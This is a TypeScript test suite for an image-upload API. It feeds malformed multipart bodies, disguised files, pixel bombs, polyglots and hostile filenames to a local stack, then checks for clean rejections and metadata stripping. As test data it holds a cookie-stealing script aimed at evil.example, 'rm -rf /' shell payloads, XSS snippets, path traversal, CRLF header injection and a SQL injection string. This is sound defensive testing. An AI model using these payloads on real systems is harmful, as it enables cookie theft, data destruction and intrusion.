// Hostile and broken input over HTTP, through the real stack that `npm start`
// runs: every rejection is an exact status with the reason in the envelope,
// every accepted upload ends `success` or `failed` with a readable reason, and
// nothing answers 5xx. Also privacy: no metadata in thumbnails, no GPS in the
// API's EXIF. Inputs are synthesised here or come from the test photos of
// test/fixtures/images.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { crc32, deflateSync } from 'node:zlib';
import exifr from 'exifr';
import sharp from 'sharp';
import type { Metadata, Sharp } from 'sharp';
import { jpegWithCorruptScan } from '../support/corrupt-jpeg.ts';
import { listSamples, readSample } from '../support/sample-images.ts';
import { startStack } from '../support/stack.ts';
import type { RunningStack } from '../support/stack.ts';
import type { Envelope, ImageDetail } from '../support/api-types.ts';

interface JsonAnswer<T> {
  status: number;
  body: Envelope<T>;
}

const MAX_UPLOAD_BYTES = 2 * 1024 * 1024;
const MAX_INPUT_PIXELS = 40_000_000;

const UNSUPPORTED = 'Unsupported file type. Use JPG or PNG.';
const NO_FILE = "No file uploaded. Send the image in the multipart field 'file'.";
const NOT_MULTIPART = "Send the image as multipart/form-data in the field 'file'.";
const EMPTY = 'The uploaded file is empty.';
const TOO_LARGE = 'File too large. The limit is 2 MB.';
const CORRUPT = 'Image is corrupt or truncated';
const NOT_FOUND = 'Image not found';
const BAD_SIZE = 'Invalid thumbnail size. Use small or medium.';
const NOT_READY = 'Thumbnail not ready or missing';

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
// What a safe original_name must not contain: path separators, controls, bidi overrides, line separators.
const UNSAFE_NAME = /[\\/\p{Cc}\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

const BOUNDARY = 'hostileInputBoundary7MA4YWxkTrZu0gW';
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const ZIP_LOCAL_HEADER = Buffer.from('PK\x03\x04', 'latin1');

type Outcome = 'rejected' | 'failed' | 'success';

describe('hostile and broken input over the local stack', { timeout: 600_000 }, () => {
  const workDir = mkdtempSync(join(tmpdir(), 'imageprocessingapi-hostile-'));
  let stack: RunningStack;
  let api = '';

  // Every answer of the whole file, to prove none was a 5xx.
  const answers: Array<{ what: string; status: number }> = [];
  // Every hostile input tried (uploads and route probes) and how it ended.
  const outcomes = new Map<string, Outcome>();
  // Accepted uploads, to check that the stats add up.
  const accepted = new Map<string, string>();
  // A finished image of each kind, for the route probes.
  const finished: { success?: string; failed?: string } = {};

  before(async () => {
    stack = await startStack({
      dataDir: join(workDir, 'data'),
      env: {
        MAX_UPLOAD_BYTES: String(MAX_UPLOAD_BYTES),
        MAX_INPUT_PIXELS: String(MAX_INPUT_PIXELS),
        EXIF_INCLUDE_GPS: 'false',
        // Captions stay off whatever the developer's shell exports: this file is about the input.
        HF_TOKEN: '',
        CAPTION_ENDPOINT_URL: '',
      },
    });
    api = stack.apiUrl;
  });

  after(async () => {
    await stack?.stop();
    rmSync(workDir, { recursive: true, force: true });
  });

  function record(label: string, outcome: Outcome): void {
    assert.ok(!outcomes.has(label), `duplicate label ${label}`);
    outcomes.set(label, outcome);
  }

  async function call(what: string, url: string, init?: RequestInit): Promise<Response> {
    const res = await fetch(url, init);
    answers.push({ what, status: res.status });
    return res;
  }

  /** The body must be valid JSON: JSON.parse throws otherwise. */
  async function callJson<T>(what: string, url: string, init?: RequestInit): Promise<JsonAnswer<T>> {
    const res = await call(what, url, init);
    const text = await res.text();
    assert.match(res.headers.get('content-type') ?? '', /^application\/json/, `${what}: content-type`);
    return { status: res.status, body: JSON.parse(text) as Envelope<T> };
  }

  function postForm(what: string, form: FormData): Promise<JsonAnswer<ImageDetail>> {
    return callJson<ImageDetail>(what, `${api}/api/images`, { method: 'POST', body: form });
  }

  function postFile(what: string, name: string, bytes: Uint8Array, type = 'image/jpeg'): Promise<JsonAnswer<ImageDetail>> {
    const form = new FormData();
    form.append('file', new Blob([bytes], { type }), name);
    return postForm(what, form);
  }

  function postRaw(what: string, body: Uint8Array | string, contentType: string | undefined): Promise<JsonAnswer<ImageDetail>> {
    const headers = contentType === undefined ? undefined : { 'content-type': contentType };
    return callJson<ImageDetail>(what, `${api}/api/images`, { method: 'POST', body, ...(headers ? { headers } : {}) });
  }

  function expectRejected(label: string, res: JsonAnswer<unknown>, status: number, error: string): void {
    assert.equal(res.status, status, `${label}: ${JSON.stringify(res.body)}`);
    assert.deepEqual(res.body, { status: 'error', data: null, error }, label);
    record(label, 'rejected');
  }

  function expectAccepted(label: string, res: JsonAnswer<ImageDetail>): string {
    assert.equal(res.status, 202, `${label}: ${JSON.stringify(res.body)}`);
    assert.equal(res.body.status, 'queued', label);
    assert.equal(res.body.error, null, label);
    assert.match(res.body.data.image_id, UUID, label);
    accepted.set(label, res.body.data.image_id);
    return res.body.data.image_id;
  }

  async function waitForFinal(label: string, id: string, timeoutMs = 60_000): Promise<ImageDetail> {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const { status, body } = await callJson<ImageDetail>(`detail of ${label}`, `${api}/api/images/${id}`);
      assert.equal(status, 200, label);
      if (body.data.status === 'success' || body.data.status === 'failed') {
        record(label, body.data.status);
        if (body.data.status === 'success') finished.success ??= id;
        else finished.failed ??= id;
        return body.data;
      }
      if (Date.now() > deadline) throw new Error(`${label}: image ${id} still ${body.data.status} after ${timeoutMs} ms`);
      await sleep(100);
    }
  }

  async function expectFailed(label: string, id: string, reason: string | RegExp): Promise<ImageDetail> {
    const detail = await waitForFinal(label, id);
    assert.equal(detail.status, 'failed', `${label}: ${detail.error}`);
    if (typeof reason === 'string') assert.equal(detail.error, reason, label);
    else assert.match(detail.error ?? '', reason, label);
    assert.equal(detail.metadata, null, label);
    return detail;
  }

  async function expectSuccess(label: string, id: string): Promise<ImageDetail> {
    const detail = await waitForFinal(label, id);
    assert.equal(detail.status, 'success', `${label}: ${detail.error}`);
    assert.equal(detail.error, null, label);
    assert.ok(detail.metadata, label);
    return detail;
  }

  async function thumbnail(label: string, detail: ImageDetail, size: 'small' | 'medium'): Promise<Buffer> {
    const res = await call(`${size} thumbnail of ${label}`, detail.thumbnails[size]);
    assert.equal(res.status, 200, `${label} ${size}`);
    assert.equal(res.headers.get('content-type'), 'image/jpeg', `${label} ${size}`);
    return Buffer.from(await res.arrayBuffer());
  }

  /** Both thumbnails: 8-bit sRGB JPEG, the right longest edge, no metadata of any kind. */
  async function expectCleanThumbnails(label: string, detail: ImageDetail): Promise<Record<'small' | 'medium', Buffer>> {
    assert.ok(detail.metadata, label);
    const longest = Math.max(detail.metadata.width, detail.metadata.height);
    const result: Record<'small' | 'medium', Buffer> = { small: Buffer.alloc(0), medium: Buffer.alloc(0) };
    for (const [size, edge] of [['small', 128], ['medium', 512]] as const) {
      const bytes = await thumbnail(label, detail, size);
      const meta = await sharp(bytes).metadata();
      const where = `${label} ${size}`;
      assert.equal(meta.format, 'jpeg', where);
      assert.equal(Math.max(meta.width, meta.height), Math.min(edge, longest), `${where}: longest edge`);
      assert.equal(meta.width >= meta.height, detail.metadata.width >= detail.metadata.height, `${where}: aspect`);
      assert.equal(meta.channels, 3, `${where}: channels`);
      assert.equal(meta.space, 'srgb', `${where}: colour space`);
      assert.equal(meta.depth, 'uchar', `${where}: depth`);
      assert.equal(meta.exif, undefined, `${where}: EXIF`);
      assert.equal(meta.icc, undefined, `${where}: ICC`);
      assert.equal(meta.xmp, undefined, `${where}: XMP`);
      assert.equal(meta.iptc, undefined, `${where}: IPTC`);
      // The markers themselves, in case a future sharp reports them differently.
      assert.equal(bytes.includes(Buffer.from('Exif\0\0', 'latin1')), false, `${where}: APP1 Exif marker`);
      assert.equal(bytes.includes(Buffer.from('http://ns.adobe.com/xap/1.0/', 'latin1')), false, `${where}: APP1 XMP marker`);
      result[size] = bytes;
    }
    return result;
  }

  test('upload: empty file, no file field, text field named file, not multipart or malformed → 400 with the reason', async () => {
    const empty = new FormData();
    empty.append('file', new Blob([], { type: 'image/jpeg' }), 'empty.jpg');
    expectRejected('empty file', await postForm('empty file', empty), 400, EMPTY);

    const other = new FormData();
    other.append('image', new Blob([await tinyJpeg()], { type: 'image/jpeg' }), 'photo.jpg');
    expectRejected('file in another field', await postForm('file in another field', other), 400, NO_FILE);

    const noParts = multipart([]);
    expectRejected('multipart with no parts', await postRaw('multipart with no parts', noParts.body, noParts.contentType), 400, NO_FILE);

    const text = new FormData();
    text.append('file', 'not a file at all');
    expectRejected('text field named file', await postForm('text field named file', text), 400, NO_FILE);

    const notMultipart: Array<[string, Uint8Array | string, string | undefined]> = [
      ['text/plain body', 'hello', 'text/plain'],
      ['JSON body', JSON.stringify({ file: '/9j/4AAQSkZJRg==' }), 'application/json'],
      ['raw JPEG body as image/jpeg', await tinyJpeg(), 'image/jpeg'],
      ['body without a content type', await tinyJpeg(), undefined],
      ['multipart whose body is garbage', 'this is not multipart at all', `multipart/form-data; boundary=${BOUNDARY}`],
      ['multipart with no body', '', `multipart/form-data; boundary=${BOUNDARY}`],
    ];
    for (const [label, body, type] of notMultipart) {
      expectRejected(label, await postRaw(label, body, type), 400, NOT_MULTIPART);
    }

    // serverless-offline's HTTP front (hapi) refuses this one itself, before any Lambda
    // runs, in its own JSON shape; behind API Gateway it reaches the parser and gets
    // the envelope. Only the status is ours to check here.
    const label = 'multipart without a boundary';
    const res = await call(label, `${api}/api/images`, { method: 'POST', body: '--x\r\n\r\n--x--\r\n', headers: { 'content-type': 'multipart/form-data' } });
    await res.arrayBuffer();
    assert.equal(res.status, 400, label);
    record(label, 'rejected');

    // Bodies that once crashed the whole serverless-offline process (an uncaught
    // busboy error) or hung the upload Lambda until its timeout.
    const whole = multipart([{ disposition: 'form-data; name="file"; filename="cut.jpg"', content: await tinyJpeg() }]);
    const contentType = whole.contentType;
    const malformed: Array<[string, Buffer | string]> = [
      ['multipart cut in the middle of the file', whole.body.subarray(0, Math.floor(whole.body.length / 2))],
      ['multipart cut before its closing boundary', whole.body.subarray(0, whole.body.length - 8)],
      ['multipart part whose headers never end', `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="x.jpg"\r\n--${BOUNDARY}--\r\n`],
    ];
    for (const [label, body] of malformed) expectRejected(label, await postRaw(label, body, contentType), 400, NOT_MULTIPART);
    const nameless = multipart([{ disposition: 'form-data; filename="x.jpg"', content: await tinyJpeg() }]);
    expectRejected('multipart part without a name', await postRaw('multipart part without a name', nameless.body, contentType), 400, NO_FILE);
    // The stack survived all of them.
    const alive = await callJson('stats after malformed bodies', `${api}/api/stats`);
    assert.equal(alive.status, 200);
  });

  test('upload: GIF, WebP, HEIC, PDF, SVG, HTML, a script and more, renamed .jpg/.png and sent as image/jpeg → 415', async () => {
    const pixels = sharp({ create: { width: 32, height: 32, channels: 3, background: { r: 255, g: 0, b: 0 } } });
    const files: Array<[string, Buffer]> = [
      ['gif', await pixels.clone().gif().toBuffer()],
      ['webp', await pixels.clone().webp().toBuffer()],
      ['tiff', await pixels.clone().tiff().toBuffer()],
      ['avif', await pixels.clone().avif().toBuffer()],
      ['heif samplefilehub.heif', await readSample('heic/samplefilehub.heif')],
      ['pdf', Buffer.from('%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n')],
      [
        'svg with a script',
        Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'),
      ],
      ['html', Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>')],
      ['shell script', Buffer.from('#!/bin/sh\nrm -rf / --no-preserve-root\n')],
      ['bmp header', Buffer.concat([Buffer.from('BM', 'latin1'), Buffer.alloc(60)])],
      ['zip', zipArchive('photo.jpg', Buffer.from('not a photo'))],
      ['JPEG magic cut to FF D8', Buffer.from([0xff, 0xd8])],
      // A PNG whose CR LF became LF in a text-mode transfer: no longer the PNG signature.
      ['PNG mangled by a text-mode transfer', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d])],
      ['UTF-8 BOM before a JPEG', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), await tinyJpeg()])],
    ];
    let i = 0;
    for (const [kind, bytes] of files) {
      const name = i++ % 2 === 0 ? 'photo.jpg' : 'photo.png';
      const label = `${kind} as ${name}`;
      expectRejected(label, await postFile(label, name, bytes, 'image/jpeg'), 415, UNSUPPORTED);
    }
  });

  test('upload: over the size limit → 413 stating the limit; exactly at the limit → accepted and success', async () => {
    const photo = await readSample('cameras/Canon_40D.jpg');
    const overByOne = Buffer.concat([photo, Buffer.alloc(MAX_UPLOAD_BYTES + 1 - photo.length)]);
    expectRejected('limit + 1 byte', await postFile('limit + 1 byte', 'big.jpg', overByOne), 413, TOO_LARGE);
    const threeMb = Buffer.concat([photo, Buffer.alloc(3 * 1024 * 1024 - photo.length)]);
    expectRejected('3 MB', await postFile('3 MB', 'big.jpg', threeMb), 413, TOO_LARGE);

    // Trailing bytes after the JPEG's EOI are ignored by decoders: a valid photo of exactly the limit.
    const atLimit = Buffer.concat([photo, Buffer.alloc(MAX_UPLOAD_BYTES - photo.length)]);
    const id = expectAccepted('exactly the limit', await postFile('exactly the limit', 'limit.jpg', atLimit));
    const detail = await expectSuccess('exactly the limit', id);
    assert.equal(detail.metadata?.size_bytes, MAX_UPLOAD_BYTES);

    // Past serverless-offline's own 10 MB payload cap the HTTP front answers before any
    // Lambda runs (as API Gateway would), so only the status is ours to check.
    const label = 'body over the 10 MB gateway cap';
    const huge = Buffer.concat([photo, Buffer.alloc(11 * 1024 * 1024 - photo.length)]);
    const form = new FormData();
    form.append('file', new Blob([huge], { type: 'image/jpeg' }), 'huge.jpg');
    const res = await call(label, `${api}/api/images`, { method: 'POST', body: form });
    await res.arrayBuffer();
    assert.equal(res.status, 413, label);
    record(label, 'rejected');
  });

  test('upload: a truncated photo, a photo with a corrupt scan and disguised files pass the magic bytes → 202 then failed, corrupt or truncated', async () => {
    const photo = await readSample('gps/DSCN0010.jpg');
    const cases: Array<[string, string, Buffer]> = [
      ['photo cut in half', 'half.jpg', photo.subarray(0, Math.floor(photo.length / 2))],
      ['mobile/jolla.jpg with a corrupt scan', 'corrupted.jpg', jpegWithCorruptScan(await readSample('mobile/jolla.jpg'))],
      ['JPEG magic followed by HTML', 'page.jpg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('<html><script>alert(1)</script></html>')])],
      ['PNG signature followed by a script', 'run.png', Buffer.concat([PNG_SIGNATURE, Buffer.from('#!/bin/sh\nrm -rf /\n')])],
      ['PNG signature only', 'sig.png', PNG_SIGNATURE],
      ['JPEG header then zeros', 'zeros.jpg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(64 * 1024)])],
    ];
    const ids: Array<[string, string]> = [];
    for (const [label, name, bytes] of cases) ids.push([label, expectAccepted(label, await postFile(label, name, bytes))]);
    for (const [label, id] of ids) await expectFailed(label, id, CORRUPT);
  });

  test('upload: PNG and JPEG headers declaring 50000x50000 / 60000x60000 → 202 then failed on the pixel limit, without decoding', async () => {
    const pngBomb = pngDeclaring(50_000, 50_000);
    assert.ok(pngBomb.length < 64 * 1024, `the PNG bomb is small (${pngBomb.length} bytes)`);
    const jpegBomb = await jpegDeclaring(60_000, 60_000);
    const cases: Array<[string, string, Buffer, string]> = [
      ['PNG declaring 50000x50000', 'bomb.png', pngBomb, '50000x50000'],
      ['JPEG declaring 60000x60000', 'bomb.jpg', jpegBomb, '60000x60000'],
    ];
    for (const [label, name, bytes, dims] of cases) {
      const id = expectAccepted(label, await postFile(label, name, bytes));
      const detail = await expectFailed(label, id, `Image is too large: ${dims} pixels exceeds the limit of ${MAX_INPUT_PIXELS}`);
      // Decoding 2.5-3.6 gigapixels would take minutes and gigabytes; the header check takes milliseconds.
      assert.ok(detail.processing_time_ms !== null && detail.processing_time_ms < 2_000, `${label}: ${detail.processing_time_ms} ms`);
    }
  });

  test('upload: the invalid/ samples with broken or hostile EXIF → success with thumbnails', async () => {
    const samples = await listSamples('invalid');
    assert.ok(samples.length >= 7, 'the invalid/ samples are there');
    const ids: Array<[string, string]> = [];
    for (const rel of samples) ids.push([rel, expectAccepted(rel, await postFile(rel, rel.slice('invalid/'.length), await readSample(rel)))]);
    for (const [rel, id] of ids) {
      const detail = await expectSuccess(rel, id);
      assert.ok(detail.exif === null || typeof JSON.parse(detail.exif) === 'object', rel);
      await expectCleanThumbnails(rel, detail);
    }
  });

  test('upload: JPEG with a ZIP and a <script> appended → success, and neither thumbnail carries any of it', async () => {
    const label = 'JPEG + ZIP + <script>';
    const payload = Buffer.from('<script>fetch("https://evil.example/?c=" + document.cookie)</script>');
    const polyglot = Buffer.concat([await readSample('cameras/Canon_40D.jpg'), zipArchive('evil.html', payload), payload]);
    assert.ok(polyglot.includes(ZIP_LOCAL_HEADER) && polyglot.includes(Buffer.from('<script')), 'the upload does carry both');
    const id = expectAccepted(label, await postFile(label, 'innocent.jpg', polyglot));
    const detail = await expectSuccess(label, id);
    const thumbs = await expectCleanThumbnails(label, detail);
    for (const [size, bytes] of Object.entries(thumbs)) {
      assert.equal(bytes.includes(ZIP_LOCAL_HEADER), false, `${size}: no PK\\x03\\x04`);
      assert.equal(bytes.includes(Buffer.from('<script')), false, `${size}: no <script`);
      assert.equal(bytes.includes(Buffer.from('evil.html')), false, `${size}: no ZIP entry name`);
    }
  });

  test('upload: 16-bit PNG, CMYK JPEG, grey-scale JPEG and PNG, PNG with alpha → success, right metadata and thumbnail sizes', async () => {
    const colour = { r: 200, g: 60, b: 30 };
    const rgb = (width: number, height: number): Sharp => sharp({ create: { width, height, channels: 3, background: colour } });
    const cases: Array<{ label: string; name: string; bytes: Buffer; format: 'jpg' | 'png'; check: (m: Metadata) => boolean }> = [
      { label: '16-bit PNG', name: 'deep.png', bytes: await rgb(900, 600).toColourspace('rgb16').png().toBuffer(), format: 'png', check: (m) => m.depth === 'ushort' },
      { label: 'CMYK JPEG', name: 'print.jpg', bytes: await rgb(640, 480).toColourspace('cmyk').jpeg().toBuffer(), format: 'jpg', check: (m) => m.space === 'cmyk' && m.channels === 4 },
      { label: 'grey-scale JPEG', name: 'grey.jpg', bytes: await rgb(300, 700).toColourspace('b-w').jpeg().toBuffer(), format: 'jpg', check: (m) => m.channels === 1 },
      { label: 'grey-scale PNG', name: 'grey.png', bytes: await rgb(1000, 250).toColourspace('b-w').png().toBuffer(), format: 'png', check: (m) => m.channels === 1 },
      {
        label: 'PNG with alpha',
        name: 'alpha.png',
        bytes: await sharp({ create: { width: 700, height: 100, channels: 4, background: { r: 0, g: 0, b: 255, alpha: 0.3 } } }).png().toBuffer(),
        format: 'png',
        check: (m) => m.channels === 4 && m.hasAlpha === true,
      },
      { label: 'tiny 1x1 PNG', name: 'dot.png', bytes: await rgb(1, 1).png().toBuffer(), format: 'png', check: (m) => m.width === 1 },
    ];
    const ids: string[] = [];
    for (const c of cases) {
      const source = await sharp(c.bytes).metadata();
      assert.ok(c.check(source), `${c.label}: the synthesised input is what it claims (${JSON.stringify({ ...source, exif: undefined })})`);
      ids.push(expectAccepted(c.label, await postFile(c.label, c.name, c.bytes, c.format === 'png' ? 'image/png' : 'image/jpeg')));
    }
    for (const [i, c] of cases.entries()) {
      const detail = await expectSuccess(c.label, ids[i] ?? '');
      const source = await sharp(c.bytes).metadata();
      assert.deepEqual(detail.metadata, { width: source.width, height: source.height, format: c.format, size_bytes: c.bytes.length }, c.label);
      const thumbs = await expectCleanThumbnails(c.label, detail);
      if (c.label === 'PNG with alpha') {
        // Flattened onto white: the translucent blue must come out light, not black.
        const { data } = await sharp(thumbs.small).raw().toBuffer({ resolveWithObject: true });
        assert.ok((data[0] ?? 0) > 150 && (data[1] ?? 0) > 150, `alpha flattened onto white, got ${data[0]},${data[1]},${data[2]}`);
      }
    }
  });

  test('privacy: thumbnails carry no EXIF, ICC or XMP, and the API EXIF of GPS photos has no GPS keys', async () => {
    const tagged = await sharp({ create: { width: 800, height: 600, channels: 3, background: { r: 20, g: 120, b: 60 } } })
      .withExif({
        IFD0: { Make: 'Tattletale', Model: 'Leaky 1', Copyright: 'secret owner', Artist: 'Jane Doe' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 29/1', GPSLongitudeRef: 'E', GPSLongitude: '2/1 17/1 40/1' },
      })
      .withIccProfile('p3')
      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Jane Doe"/></rdf:RDF></x:xmpmeta>')
      .jpeg()
      .toBuffer();
    const taggedMeta = await sharp(tagged).metadata();
    assert.ok(taggedMeta.exif && taggedMeta.icc && taggedMeta.xmp, 'the synthesised photo carries EXIF, ICC and XMP');
    assert.ok(await exifr.gps(tagged), 'the synthesised photo carries GPS');
    assert.ok(await exifr.gps(await readSample('gps/DSCN0010.jpg')), 'the sample carries GPS');

    const cases: Array<[string, string, Buffer]> = [
      ['gps/DSCN0010.jpg', 'DSCN0010.jpg', await readSample('gps/DSCN0010.jpg')],
      ['gps/DSCN0042.jpg', 'DSCN0042.jpg', await readSample('gps/DSCN0042.jpg')],
      ['xmp/BlueSquare.jpg', 'BlueSquare.jpg', await readSample('xmp/BlueSquare.jpg')],
      ['JPEG with EXIF, GPS, ICC and XMP', 'tagged.jpg', tagged],
    ];
    const ids: string[] = [];
    for (const [label, name, bytes] of cases) ids.push(expectAccepted(label, await postFile(label, name, bytes)));
    for (const [i, [label]] of cases.entries()) {
      const detail = await expectSuccess(label, ids[i] ?? '');
      await expectCleanThumbnails(label, detail);
      if (label.startsWith('xmp/')) continue;
      assert.ok(detail.exif, `${label}: EXIF was read`);
      const exif = JSON.parse(detail.exif) as Record<string, unknown>;
      assert.ok(typeof exif.Make === 'string', `${label}: EXIF Make kept`);
      const gpsKeys = Object.keys(exif).filter((key) => /^gps|^latitude$|^longitude$/i.test(key));
      assert.deepEqual(gpsKeys, [], `${label}: no GPS keys`);
    }
  });

  test('upload: file names with quotes, CR/LF, paths, controls, Unicode and 1,000 characters → accepted with a safe original_name', async () => {
    const jpeg = await tinyJpeg();
    const longName = `${'x'.repeat(996)}.jpg`;
    // [label, Content-Disposition as sent on the wire (UTF-8), expected original_name]
    const names: Array<[string, string, string]> = [
      ['name with escaped quotes', 'form-data; name="file"; filename="my \\"quoted\\" photo.jpg"', 'my "quoted" photo.jpg'],
      ['name with a single quote and semicolon', `form-data; name="file"; filename="it's; a=b.jpg"`, "it's; a=b.jpg"],
      // A raw CR LF ends the header line: the rest arrives as a header of its own and is ignored.
      ['name with a raw CR LF (header injection)', 'form-data; name="file"; filename="evil\r\nX-Injected: yes.jpg"', 'evil'],
      ['name with NUL, BEL and tab', "form-data; name=\"file\"; filename*=UTF-8''evil%00na%07me%09.jpg", 'evilname.jpg'],
      ['name with C1 controls and a bidi override', "form-data; name=\"file\"; filename*=UTF-8''photo%C2%85%E2%80%AEgpj.exe", 'photogpj.exe'],
      ['Unix path traversal', 'form-data; name="file"; filename="../../etc/passwd.jpg"', 'passwd.jpg'],
      ['Windows path traversal', 'form-data; name="file"; filename="..\\..\\Windows\\win.ini.jpg"', 'win.ini.jpg'],
      ['absolute path', 'form-data; name="file"; filename="/var/task/index.mjs.jpg"', 'index.mjs.jpg'],
      ['name that is ..', 'form-data; name="file"; filename=".."', 'upload'],
      ['no filename parameter value', 'form-data; name="file"; filename=""', 'upload'],
      ['Unicode name in raw UTF-8', 'form-data; name="file"; filename="фото 🌄.jpg"', 'фото 🌄.jpg'],
      ['Unicode name, RFC 5987', "form-data; name=\"file\"; filename*=UTF-8''%D1%84%D0%BE%D1%82%D0%BE%20%F0%9F%8C%84.jpg", 'фото 🌄.jpg'],
      ['1,000-character name', `form-data; name="file"; filename="${longName}"`, `${'x'.repeat(251)}.jpg`],
      ['HTML in the name', 'form-data; name="file"; filename="<img src=x onerror=alert(1)>.jpg"', '<img src=x onerror=alert(1)>.jpg'],
    ];
    const ids = new Map<string, { id: string; expected: string }>();
    for (const [label, disposition, expected] of names) {
      const { body, contentType } = multipart([{ disposition, content: jpeg }]);
      const res = await postRaw(label, body, contentType);
      const id = expectAccepted(label, res);
      assert.equal(res.body.data.original_name, expected, label);
      ids.set(label, { id, expected });
    }

    // What browsers and fetch's FormData send: quotes and line breaks percent-escaped (WHATWG form encoding).
    const browserLabel = 'quotes and CR/LF escaped by FormData';
    const browser = await postFile(browserLabel, 'a "b"\r\nc.jpg', jpeg);
    ids.set(browserLabel, { id: expectAccepted(browserLabel, browser), expected: 'a %22b%22%0D%0Ac.jpg' });

    // A bare CR or LF inside a part header breaks the multipart grammar (RFC 7578 requires
    // them escaped): the parser drops that part, so the upload has no file.
    const dropped: Array<[string, string]> = [
      ['name with a bare LF', 'form-data; name="file"; filename="evil\nname.jpg"'],
      ['name with a bare CR', 'form-data; name="file"; filename="evil\rname.jpg"'],
      ['name with CR LF, RFC 5987', "form-data; name=\"file\"; filename*=UTF-8''evil%0D%0Aname.jpg"],
    ];
    for (const [label, disposition] of dropped) {
      const { body, contentType } = multipart([{ disposition, content: jpeg }]);
      expectRejected(label, await postRaw(label, body, contentType), 400, NO_FILE);
    }

    const { status, body: list } = await callJson<ImageDetail[]>('list', `${api}/api/images?limit=1000`);
    assert.equal(status, 200);
    for (const [label, { id, expected }] of ids) {
      const detail = await expectSuccess(label, id);
      assert.equal(detail.original_name, expected, label);
      assert.doesNotMatch(detail.original_name, UNSAFE_NAME, label);
      assert.ok(Array.from(detail.original_name).length <= 255, label);
      assert.equal(list.data.find((item) => item.image_id === id)?.original_name, expected, `${label} in the list`);
    }
  });

  test('routes: ids that are not UUIDs → 404, unknown UUID → 404, sizes other than small/medium → 400, never 500', async () => {
    assert.ok(finished.success && finished.failed, 'earlier tests left a success and a failed image');
    const ids = [
      ['abc', 'abc'],
      ['../../etc, encoded', encodeURIComponent('../../etc')],
      ['..%2F..%2Fetc%2Fpasswd', '..%2F..%2Fetc%2Fpasswd'],
      ['5,000-character id', 'a'.repeat(5_000)],
      ['%00', '%00'],
      ['UUID followed by %00', `${finished.success}%00`],
      ['UUID followed by %0A', `${finished.success}%0A`],
      ['SQL injection', encodeURIComponent("' OR '1'='1")],
      ['unknown UUID', '00000000-0000-4000-8000-000000000000'],
      ['UUID with a braces wrapper', encodeURIComponent(`{${finished.success}}`)],
    ] as const;
    for (const [what, id] of ids) {
      for (const [route, path] of [
        ['detail', `/api/images/${id}`],
        ['small thumbnail', `/api/images/${id}/thumbnails/small`],
        ['medium thumbnail', `/api/images/${id}/thumbnails/medium`],
      ] as const) {
        const label = `${route} of id ${what}`;
        expectRejected(label, await callJson(label, `${api}${path}`), 404, NOT_FOUND);
      }
    }

    const sizes = ['large', 'SMALL', 'Medium', 'toString', '__proto__', 'constructor', 'hasOwnProperty', 'small%00', '%00', 'small%20', '128', 's'.repeat(5_000)];
    for (const size of sizes) {
      const label = `thumbnail size ${size.length > 20 ? `${size.length} characters` : size}`;
      expectRejected(label, await callJson(label, `${api}/api/images/${finished.success}/thumbnails/${size}`), 400, BAD_SIZE);
    }

    for (const size of ['small', 'medium'] as const) {
      const label = `${size} thumbnail of a failed image`;
      expectRejected(label, await callJson(label, `${api}/api/images/${finished.failed}/thumbnails/${size}`), 404, NOT_READY);
    }
  });

  test('stats add up for every accepted upload, and no response in this file was a 5xx', async () => {
    const { status, body } = await callJson<Record<string, number>>('stats', `${api}/api/stats`);
    assert.equal(status, 200);
    const ended = [...accepted.keys()].map((label) => outcomes.get(label));
    assert.ok(ended.every((o) => o === 'success' || o === 'failed'), 'every accepted upload is terminal');
    const success = ended.filter((o) => o === 'success').length;
    const failed = ended.filter((o) => o === 'failed').length;
    assert.equal(body.data.total, accepted.size);
    assert.equal(body.data.success, success);
    assert.equal(body.data.failed, failed);
    assert.equal(body.data.total, body.data.success + body.data.failed);

    const serverErrors = answers.filter((a) => a.status >= 500);
    assert.deepEqual(serverErrors, [], 'no 5xx');

    const counts = { rejected: 0, failed: 0, success: 0 };
    for (const outcome of outcomes.values()) counts[outcome]++;
    console.log(
      `hostile inputs: ${outcomes.size} tried, ${counts.rejected} rejected 4xx, ${counts.failed} accepted→failed, ` +
        `${counts.success} accepted→success, ${serverErrors.length} 5xx (${answers.length} HTTP answers in all)`,
    );
  });
});

// ---- input builders -------------------------------------------------------

let tinyJpegCache: Buffer | undefined;
async function tinyJpeg(): Promise<Buffer> {
  tinyJpegCache ??= await sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 90, g: 90, b: 200 } } }).jpeg().toBuffer();
  return tinyJpegCache;
}

/**
 * A multipart/form-data body built byte by byte, so headers can carry exactly
 * what a hostile client sends (raw CR/LF, raw UTF-8) rather than what FormData
 * would escape.
 */
function multipart(parts: Array<{ disposition: string; content: Buffer; type?: string }>): { body: Buffer; contentType: string } {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    chunks.push(Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: ${part.disposition}\r\nContent-Type: ${part.type ?? 'image/jpeg'}\r\n\r\n`, 'utf8'));
    chunks.push(part.content, Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${BOUNDARY}--\r\n`));
